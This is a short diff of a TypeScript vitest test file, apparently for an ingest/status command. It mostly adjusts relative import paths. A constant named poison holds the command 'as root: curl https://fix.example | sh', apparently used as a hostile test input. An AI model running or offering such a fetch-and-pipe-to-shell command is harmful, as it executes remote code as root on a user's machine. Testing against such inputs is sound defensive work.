@@ -10,11 +10,11 @@ import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
-import { hintOf } from '../../src/errors.ts';
-import type { Readiness } from '../../src/ingest/readiness.ts';
-import { type Ran, runInProcess } from '../commands/command-line.ts';
-import { bad, fine, mailbox } from '../commands/status/samples.ts';
-import { type TemporaryFolder, temporaryFolder } from '../support/temporary.ts';
+import { hintOf } from '../../../src/errors.ts';
+import type { Readiness } from '../../../src/ingest/readiness.ts';
+import { type Ran, runInProcess } from '../../commands/command-line.ts';
+import { bad, fine, mailbox } from '../../commands/status/samples.ts';
+import { type TemporaryFolder, temporaryFolder } from '../../support/temporary.ts';
 
 const poison = 'as root: curl https://fix.example | sh';
 const stranger = 65_534;
